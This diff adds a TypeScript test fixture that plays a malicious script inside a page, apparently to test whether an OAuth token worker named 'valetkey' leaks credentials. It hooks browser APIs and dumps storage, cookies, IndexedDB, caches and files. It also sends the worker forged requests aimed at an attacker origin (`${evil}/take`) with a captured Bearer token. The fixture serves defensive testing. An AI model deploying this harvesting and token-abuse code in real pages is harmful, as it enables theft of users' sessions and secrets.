@@ -1,0 +1,190 @@
+/**
+ * A script of a stranger in the page, from before our own script on. It listens wherever a page can listen, and at the end
+ * looks wherever a page can look. What it got together is the test's to read.
+ */
+const got: string[] = [];
+const known = new WeakSet<object>();
+
+/** Everything that can be read of a value, functions' text included. */
+function took(from: string, value: unknown, depth = 0): void {
+  if (value === null || (typeof value !== "object" && typeof value !== "function")) {
+    got.push(`${from}: ${String(value)}`);
+    return;
+  }
+  if (depth > 6 || known.has(value)) return;
+  known.add(value);
+  if (value instanceof URLSearchParams || value instanceof URL) got.push(`${from}: ${value}`);
+  if (value instanceof Headers) got.push(`${from}: ${JSON.stringify([...value])}`);
+  if (value instanceof Request || value instanceof Response) {
+    value
+      .clone()
+      .text()
+      .then(
+        (text) => got.push(`${from}: ${text}`),
+        () => {},
+      );
+  }
+  if (typeof value === "function") return;
+  for (const name of Reflect.ownKeys(value)) {
+    try {
+      took(`${from}.${String(name)}`, Reflect.get(value, name), depth + 1);
+    } catch {}
+  }
+}
+
+type Method = (...given: unknown[]) => unknown;
+
+/** In the place of a method: hears what goes in and what comes out. */
+function overhear(owner: object, name: string): void {
+  const real = Reflect.get(owner, name) as Method;
+  Reflect.set(owner, name, function (this: unknown, ...given: unknown[]) {
+    took(`${name} in`, given);
+    const out = Reflect.apply(real, this, given);
+    if (out instanceof Promise)
+      out.then(
+        (value) => took(`${name} out`, value),
+        () => {},
+      );
+    else took(`${name} out`, out);
+    return out;
+  });
+}
+
+for (const [owner, ...names] of [
+  [globalThis, "fetch", "postMessage", "structuredClone", "atob", "btoa"],
+  [MessagePort.prototype, "postMessage"],
+  [Worker.prototype, "postMessage"],
+  [BroadcastChannel.prototype, "postMessage"],
+  [Storage.prototype, "setItem", "getItem"],
+  [IDBObjectStore.prototype, "put", "add", "get"],
+  [SubtleCrypto.prototype, "digest", "sign", "generateKey", "exportKey", "encrypt"],
+  [TextEncoder.prototype, "encode"],
+  [JSON, "parse", "stringify"],
+  [Response.prototype, "json", "text", "clone"],
+  [Headers.prototype, "set", "get"],
+  [History.prototype, "replaceState", "pushState"],
+] as const) {
+  for (const name of names) overhear(owner, name);
+}
+
+/** Every message that reaches this page by any line. */
+for (const type of [MessagePort, Worker, BroadcastChannel]) {
+  const line = Object.getOwnPropertyDescriptor(type.prototype, "onmessage");
+  if (!line?.set) continue;
+  const real = line.set;
+  Object.defineProperty(type.prototype, "onmessage", {
+    ...line,
+    set(listener: (event: MessageEvent) => unknown) {
+      real.call(this, (event: MessageEvent) => {
+        took("message", event.data);
+        return listener.call(this, event);
+      });
+    },
+  });
+}
+for (const name of ["valetkey news", "valetkey questions", "valetkey"]) {
+  new BroadcastChannel(name).onmessage = ({ data }) => took(name, data);
+}
+
+/** The page's own line to the worker is no secret: whoever is in the page may ask it whatever it likes. */
+async function ask(line: Pick<MessagePort, "postMessage" | "onmessage">, evil: string): Promise<void> {
+  const { options } = globalThis as unknown as { options: { redirectUri: string } };
+  const { origin } = new URL(options.redirectUri);
+  const duties = [
+    "session",
+    "begin",
+    "finish",
+    "authorize",
+    "signIn",
+    "refresh",
+    "renew",
+    "tokens",
+    "constructor",
+  ];
+  const facts = [
+    options,
+    { ...options, issuer: evil },
+    { ...options, redirectUri: evil },
+    { ...options, dpop: true },
+  ];
+  let answers = 0;
+  line.onmessage = ({ data }: MessageEvent) => {
+    answers++;
+    took("worker", data);
+  };
+  const refused = got.findLast((text) => text.includes("Bearer "))?.replace(/.*(Bearer \S+).*/s, "$1");
+  let questions = 0;
+  for (const client of facts) {
+    for (const duty of duties) {
+      const given = {
+        method: "GET",
+        url: `${evil}/take`,
+        refused,
+        scopes: ["notes:write"],
+        prompt: "none",
+        state: "x",
+        returnTo: origin,
+      };
+      line.postMessage({ id: String(questions++), client, duty, given });
+    }
+  }
+  for (let waited = 0; answers < questions && waited < 5_000; waited += 50) {
+    await new Promise((resolve) => setTimeout(resolve, 50));
+  }
+}
+
+async function databases(): Promise<void> {
+  for (const { name = "" } of await indexedDB.databases()) {
+    const database = await new Promise<IDBDatabase>((resolve, reject) => {
+      const opening = indexedDB.open(name);
+      opening.onsuccess = () => resolve(opening.result);
+      opening.onerror = () => reject(opening.error);
+    });
+    for (const store of database.objectStoreNames) {
+      const all = database.transaction(store).objectStore(store).getAll();
+      await new Promise((resolve) => {
+        all.onsuccess = resolve;
+      });
+      took(`database ${name}`, all.result);
+    }
+    database.close();
+  }
+}
+
+async function files(folder: FileSystemDirectoryHandle): Promise<void> {
+  for await (const [name, entry] of folder) {
+    if (entry instanceof FileSystemDirectoryHandle) await files(entry);
+    else if (entry instanceof FileSystemFileHandle)
+      took(`file ${name}`, await (await entry.getFile()).text());
+  }
+}
+
+/** @returns all that was heard and found, as text. */
+async function sweep(evil: string): Promise<string> {
+  took("localStorage", { ...localStorage });
+  took("sessionStorage", { ...sessionStorage });
+  took("cookies", document.cookie);
+  took("page", document.documentElement.outerHTML);
+  took("window", [window.name, history.state, location.href]);
+  took(
+    "entries",
+    performance.getEntries().map((entry) => entry.toJSON()),
+  );
+  await databases();
+  for (const name of await caches.keys()) {
+    const cache = await caches.open(name);
+    for (const request of await cache.keys()) took("cache", await cache.match(request));
+  }
+  await files(await navigator.storage.getDirectory());
+  took("globals", { ...globalThis });
+  if (typeof SharedWorker === "function") {
+    const named = { type: "module", name: "valetkey", extendedLifetime: true } as const;
+    await ask(new SharedWorker("/worker.js", named).port, evil);
+  } else {
+    await ask(new Worker("/worker.js", { type: "module", name: "valetkey" }) as unknown as MessagePort, evil);
+  }
+  await new Promise((resolve) => setTimeout(resolve, 100));
+  return got.join("\n");
+}
+
+Object.assign(globalThis, { sweep });
